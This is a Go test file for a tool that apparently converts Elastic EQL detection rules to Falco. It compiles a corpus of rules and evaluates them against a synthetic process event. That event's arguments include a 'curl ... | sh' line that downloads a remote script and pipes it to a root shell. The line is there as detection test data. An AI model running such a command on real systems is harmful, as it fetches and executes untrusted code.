package eval

import (
	"testing"

	"github.com/eql2falco/eql2falco/elastic"
	"github.com/eql2falco/eql2falco/elastic/eql"
	"github.com/eql2falco/eql2falco/internal/corpus"
)

// genericEvent is an exec event with the fields the corpus reads most,
// used to run every compiled rule once.
const genericEvent = `{
  "@timestamp": "2026-01-01T00:00:00Z",
  "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event", "outcome": "success", "dataset": "cloud_defend.process"},
  "host": {"os": {"type": "linux"}, "id": "h1", "name": "node-1", "ip": ["10.0.0.5"]},
  "process": {
    "name": "bash", "executable": "/usr/bin/bash", "args": ["bash", "-c", "curl http://10.0.0.1/x | sh"], "args_count": 3,
    "command_line": "bash -c curl http://10.0.0.1/x | sh", "pid": 42, "entity_id": "e1", "working_directory": "/tmp",
    "interactive": true, "user": {"id": "0"}, "group": {"id": "0"},
    "parent": {"name": "sshd", "executable": "/usr/sbin/sshd", "args": ["sshd"], "command_line": "sshd", "pid": 1, "entity_id": "e0", "interactive": false},
    "entry_leader": {"entry_meta": {"type": "container"}, "same_as_process": false}
  },
  "user": {"id": "0", "name": "root"}, "group": {"id": "0"},
  "container": {"id": "c1", "security_context": {"privileged": false}},
  "file": {"path": "/tmp/x.sh", "name": "x.sh", "extension": "sh"},
  "destination": {"ip": "10.0.0.1", "port": 443}, "source": {"ip": "10.0.0.5", "port": 50000},
  "data_stream": {"dataset": "cloud_defend.process"}
}`

// TestCorpusRules compiles every EQL rule of the shared corpus: single-event
// rules must compile and evaluate without an error; sequences and samples
// must be refused with their codes, and nothing else may be refused.
func TestCorpusRules(t *testing.T) {
	dir := corpus.Dir(t)
	set, err := elastic.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := ParseJSON(ECS(), []byte(genericEvent))
	if err != nil {
		t.Fatal(err)
	}
	single, refused := 0, 0
	for _, r := range set.Rules {
		q, errs := eql.ParseSource(r.Source)
		if q == nil {
			t.Errorf("%s: %s: parse:\n%s", r.Where(), r.Name, errs.Render())
			continue
		}
		p, errs := CompileRule(r, Options{})
		switch q.Body.(type) {
		case *eql.Sequence, *eql.Sample:
			want := CodeUnsupportedSequence
			if _, ok := q.Body.(*eql.Sample); ok {
				want = CodeUnsupportedSample
			}
			if p != nil || len(errs) == 0 || errs[0].Code != want {
				t.Errorf("%s: %s: want %s, got\n%s", r.Where(), r.Name, want, errs.Render())
			}
			refused++
			continue
		}
		if p == nil {
			t.Errorf("%s: %s: compile:\n%s", r.Where(), r.Name, errs.Render())
			continue
		}
		single++
		if _, err := p.Match(doc); err != nil {
			t.Errorf("%s: %s: evaluate: %v", r.Where(), r.Name, err)
		}
		if x := p.Explain(doc); x.Err != nil || x.Root == nil {
			t.Errorf("%s: %s: explain: %v", r.Where(), r.Name, x.Err)
		}
	}
	t.Logf("%d single-event rules compiled and evaluated, %d sequences and samples refused", single, refused)
	if single == 0 {
		t.Fatal("no single-event rule in the corpus")
	}
}
